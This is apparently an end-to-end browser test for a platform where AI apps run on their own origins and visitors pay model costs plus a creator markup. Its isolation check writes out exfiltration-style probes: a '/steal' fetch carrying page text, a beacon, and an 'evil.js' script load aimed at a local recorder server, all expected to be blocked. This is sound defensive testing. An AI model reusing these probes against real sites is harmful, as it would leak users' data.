// Spaces whose apps call models, paid by their visitors (issue 31, docs/spaces.md): creator A describes "a haiku
// generator", the demo model writes an AI app offline, A publishes it. Visitor B opens it on its own origin
// ({handle}--{slug}.localhost), sees the app signed out, signs in through the kit's popup (the dashboard's consent
// page naming the app, its creator, the markup A set on it and a small cap), writes a haiku, and is charged the
// provider's cost plus that markup; A's earnings rise by the markup less the platform's fee. Then the isolation
// proof: the app's page holds no dashboard cookie or storage, another app of A's (another origin) cannot read B's
// tokens, and the app's requests to any origin but the gateway's are blocked (a page script written to try).
import { createServer } from 'node:http';

import { expectEqual, expectText, expectVisible } from '../expect.mjs';
import { registerThroughForm } from '../flows.mjs';

export const name = 'space-apps';

const unique = `${Date.now().toString(36)}${Math.random().toString(36).slice(2, 5)}`;
const creator = { name: `Creator ${unique}`, email: `creator-${unique}@example.com`, password: `creator ${unique} pw` };
const visitor = { name: `Visitor ${unique}`, email: `visitor-${unique}@example.com`, password: `visitor ${unique} pw` };
const HANDLE = `cr${unique}`;
const MARKUP = 50;
const state = { appUrl: null, counterUrl: null, clientId: null };
const micros = (units) => Math.round(units * 1e6);

/** A server on a third origin that records every request it gets (nothing should reach it). */
async function recorder() {
  const hits = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('secret-from-elsewhere');
  });
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  server.unref();
  return { origin: `http://127.0.0.1:${server.address().port}`, hits, close: () => server.close() };
}

async function api(page, path, init) {
  return page.evaluate(
    async ([p, i]) => {
      const csrf = document.cookie.match(/sy_csrf=([^;]+)/)?.[1] ?? '';
      const response = await fetch(p, {
        credentials: 'include',
        ...i,
        headers: { 'content-type': 'application/json', 'x-csrf-token': decodeURIComponent(csrf) },
      });
      return response.json();
    },
    [path, init ?? {}],
  );
}

/** Generates an app from the Spaces page and publishes it; answers its address (its own origin). */
async function generateAndPublish(page, prompt) {
  await page.getByLabel('Describe your app').fill(prompt);
  await page.getByRole('button', { name: 'Generate app' }).click();
  const card = page.locator('article.app-card').filter({ hasText: prompt }).first();
  await expectText(card.locator('.badge').first(), 'Ready', { timeout: 20_000 });
  const title = (await card.getByRole('heading', { level: 3 }).textContent()).trim();
  await card.getByRole('button', { name: `Publish ${title}` }).click();
  await expectText(card, 'Published');
  const link = card.getByRole('link', { name: new RegExp(`^http://${HANDLE}--`) });
  await expectVisible(link, { what: 'the app’s own origin' });
  return link.getAttribute('href');
}

/**
 * The signed-in app holds nothing of the dashboard's, another app (another origin) cannot read its tokens, and its
 * requests to any origin but the gateway's are blocked.
 */
async function proveIsolation(page) {
  const elsewhere = await recorder();
  try {
    const seen = await page.evaluate(async (target) => {
      const tryFetch = (url, init) =>
        fetch(url, init).then(
          (response) => `read ${response.status}`,
          (error) => `blocked (${error.name})`,
        );
      return {
        origin: window.origin,
        cookie: document.cookie,
        local: Object.keys(localStorage),
        session: Object.keys(sessionStorage),
        elsewhere: await tryFetch(`${target}/steal?what=${encodeURIComponent(document.body.innerText.slice(0, 50))}`),
        ownOrigin: await tryFetch('/api/v1/auth/me', { credentials: 'include' }),
        beacon: navigator.sendBeacon(`${target}/beacon`, 'x'),
        script: await new Promise((resolve) => {
          const script = document.createElement('script');
          script.onload = () => resolve('loaded');
          script.onerror = () => resolve('blocked');
          script.src = `${target}/evil.js`;
          document.head.append(script);
        }),
        image: await new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve('loaded');
          image.onerror = () => resolve('blocked');
          image.src = `${target}/pixel.png`;
        }),
      };
    }, elsewhere.origin);
    expectEqual(seen.origin, new URL(state.appUrl).origin, 'the origin the app runs in');
    if (seen.cookie.includes('sy_')) throw new Error(`the app sees the dashboard's cookies: ${seen.cookie}`);
    if (seen.local.some((key) => key.startsWith('sy-')))
      throw new Error(`the app sees the dashboard's storage: ${seen.local}`);
    if (!seen.session.length) throw new Error('expected the kit to keep the visitor’s tokens in the app’s storage');
    if (!seen.elsewhere.startsWith('blocked') || !seen.ownOrigin.startsWith('blocked'))
      throw new Error(`expected requests off the gateway to be blocked: ${JSON.stringify(seen)}`);
    expectEqual(seen.image, 'blocked', 'a remote image');
    expectEqual(seen.script, 'blocked', 'a script from another origin');

    // Another app of the same creator, on its own origin in the same browser: none of the visitor's tokens.
    const other = await page.context().newPage();
    await other.goto(state.counterUrl);
    const there = await other.evaluate(() => ({
      local: Object.keys(localStorage),
      session: Object.keys(sessionStorage),
      values: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
    }));
    if (there.local.length || there.session.length)
      throw new Error(`another app reads storage: ${JSON.stringify(there)}`);
    await page.waitForTimeout(300);
    expectEqual(elsewhere.hits.length, 0, `requests that reached another origin (${elsewhere.hits.join(', ')})`);
  } finally {
    elsewhere.close();
  }
}

export const tests = [
  {
    name: 'creator A has the demo model write an AI app from a sentence and publishes it on its own origin',
    async run({ newPage, spacesUrl }) {
      const page = await newPage();
      await registerThroughForm(page, creator);
      await page.goto('/spaces');
      await page.getByLabel('Handle', { exact: true }).fill(HANDLE);
      await page.getByRole('button', { name: 'Claim handle' }).click();
      await expectText(page.getByRole('main'), `Saved. Your handle is ${HANDLE}.`);
      state.appUrl = await generateAndPublish(page, 'a haiku generator');
      const spacesHost = new URL(spacesUrl).host;
      if (!new RegExp(`^http://${HANDLE}--[a-z0-9-]+\\.${spacesHost.replace('.', '\\.')}/$`).test(state.appUrl))
        throw new Error(`expected the app on its own origin under ${spacesHost}, got ${state.appUrl}`);
      state.counterUrl = await generateAndPublish(page, 'A counter for the birds in my garden');
      const apps = await api(page, '/api/v1/spaces/me/apps');
      state.clientId = apps.data.find((app) => app.url === state.appUrl).clientId;
      const clients = await api(page, '/api/v1/oauth2/clients');
      const client = clients.data.find((c) => c.clientId === state.clientId);
      expectEqual(client?.redirectUris?.[0], state.appUrl, 'the app client’s redirect URI');
      expectEqual(client?.clientType, 'PUBLIC', 'the app client’s type');

      // The app's client is among A's apps, without a markup until A sets one there (docs/spaces.md).
      expectEqual(client.markupPercent, 0, 'the markup a space app’s client starts with');
      await page.goto('/apps');
      const card = page.locator('article', { has: page.getByRole('heading', { name: client.clientName }) });
      await card.getByLabel('Markup (%)').fill(String(MARKUP));
      await card.getByRole('button', { name: 'Save markup' }).click();
      await expectText(card, `${MARKUP}%`);
      const saved = await api(page, `/api/v1/oauth2/clients/${state.clientId}`);
      expectEqual(saved.data.markupPercent, MARKUP, 'the markup A saved on the app');
    },
  },
  {
    name: 'visitor B sees the app signed out, signs in through the popup, writes a haiku, pays cost plus A’s markup and A earns it less the fee',
    async run({ newPage }) {
      if (!state.appUrl) throw new Error('the previous test did not publish the app');
      const creatorPage = await newPage();
      await creatorPage.goto('/signin');
      await creatorPage.getByLabel('Email').fill(creator.email);
      await creatorPage.getByLabel('Password').fill(creator.password);
      await creatorPage.getByRole('button', { name: 'Sign in' }).click();
      await expectVisible(creatorPage.getByRole('navigation').first(), { what: 'the creator’s dashboard' });
      const earnedBefore = (await api(creatorPage, '/api/v1/earnings')).data;
      const dashboard = await newPage();
      await registerThroughForm(dashboard, visitor);
      const before = (await api(dashboard, '/api/v1/usage/me/summary')).data.totalCost;

      const page = await dashboard.context().newPage();
      const response = await page.goto(state.appUrl);
      expectEqual(response.status(), 200, 'the status of the app’s page');
      const csp = response.headers()['content-security-policy'] ?? '';
      if (!csp.includes("frame-ancestors 'none'") || !csp.includes(`connect-src ${new URL(dashboard.url()).origin}`))
        throw new Error(`unexpected policy on the app's origin: ${csp}`);
      // Signed out: the whole app, its sign-in button and a note; its button waits for a sign-in.
      const signIn = page.getByRole('button', { name: 'Sign in with Switchyard' });
      await expectVisible(signIn, { what: 'the sign-in button' });
      await expectText(page.locator('#signin-note'), 'Sign in with Switchyard to use this app');
      expectEqual(await page.locator('#go').isDisabled(), true, 'the app’s button while signed out');
      await expectText(page.locator('#status'), 'JavaScript is running.');

      const [popup] = await Promise.all([page.waitForEvent('popup'), signIn.click()]);
      await popup.waitForLoadState();
      await expectVisible(popup.getByText(`@${HANDLE}`).first(), { what: 'the creator’s handle on the consent page' });
      expectEqual(
        await popup.getByLabel('Monthly spending cap').inputValue(),
        '1',
        'the monthly cap the consent starts with',
      );
      await expectText(popup.getByTestId('consent-markup'), `adds ${MARKUP}% to the price of each call`);
      await Promise.all([popup.waitForEvent('close'), popup.getByRole('button', { name: 'Allow' }).click()]);
      await expectText(page.locator('[data-switchyard-button]'), `Sign out (${visitor.name})`);
      expectEqual(await page.locator('#go').isDisabled(), false, 'the app’s button once signed in');

      await page.getByLabel('What should it be about?').fill('the first snow');
      await page.getByRole('button', { name: 'Write it' }).click();
      const deadline = Date.now() + 15_000;
      while ((await page.locator('body').getAttribute('data-answered')) !== '1') {
        if (Date.now() > deadline) throw new Error(`no answer: ${await page.locator('#answer').textContent()}`);
        await page.waitForTimeout(100);
      }
      const answer = ((await page.locator('#answer').textContent()) ?? '').trim();
      if (!answer || answer.startsWith('Could not answer')) throw new Error(`bad answer: ${answer}`);

      // B paid for it, through the app's client, within the cap; A's app shows its user.
      let after = before;
      const until = Date.now() + 10_000;
      while (after <= before && Date.now() < until) {
        after = (await api(dashboard, '/api/v1/usage/me/summary')).data.totalCost;
        if (after <= before) await dashboard.waitForTimeout(200);
      }
      if (!(after > before)) throw new Error(`expected the visitor to be charged: ${before} → ${after}`);
      const consents = await api(dashboard, '/api/v1/oauth2/consents');
      const consent = consents.data.find((c) => c.clientId === state.clientId);
      expectEqual(consent?.limits?.monthly, 1, 'the visitor’s monthly cap on the app');
      if (!(consent.spentThisMonth > 0)) throw new Error(`expected spend on the app: ${JSON.stringify(consent)}`);

      // What B paid is the provider's cost plus A's markup, to the micro; A earns that markup less the fee.
      // The request log is written in batches: wait (bounded) for the call's settled record.
      let call;
      const logged = Date.now() + 10_000;
      while (Date.now() < logged) {
        const activity = await api(dashboard, '/api/v1/usage/me/activity');
        call = activity.data.items.find((record) => record.appId === state.clientId);
        if (call?.money?.outcome === 'settled') break;
        await dashboard.waitForTimeout(200);
      }
      if (!call?.money?.markup) throw new Error(`expected the app's call with its markup: ${JSON.stringify(call)}`);
      const { percent, providerCost, markup } = call.money.markup;
      expectEqual(percent, MARKUP, 'the markup the call was priced at');
      const paid = micros(call.money.charged);
      const provider = micros(providerCost);
      expectEqual(paid, provider + Math.ceil((provider * MARKUP) / 100), 'what B paid: cost × (1 + markup)');
      expectEqual(micros(markup), paid - provider, 'the markup part of what B paid');
      const earned = (await api(creatorPage, '/api/v1/earnings')).data;
      const earlier = earnedBefore.apps.find((a) => a.clientId === state.clientId);
      const row = earned.apps.find((a) => a.clientId === state.clientId);
      if (!row) throw new Error(`expected the app on A's Earnings: ${JSON.stringify(earned.apps)}`);
      const gained = micros(row.earnings) - micros(earlier?.earnings ?? 0);
      const fees = micros(row.fees) - micros(earlier?.fees ?? 0);
      expectEqual(gained + fees, micros(markup), 'A’s earnings plus the fee: the markup B paid');
      expectEqual(
        gained,
        Math.floor((micros(markup) * (100 - earned.platformFeePercent)) / 100),
        'A’s earnings: the markup less the platform’s fee',
      );
      if (!(gained > 0)) throw new Error(`expected A to earn: ${JSON.stringify(row)}`);
      await proveIsolation(page);
    },
  },
];
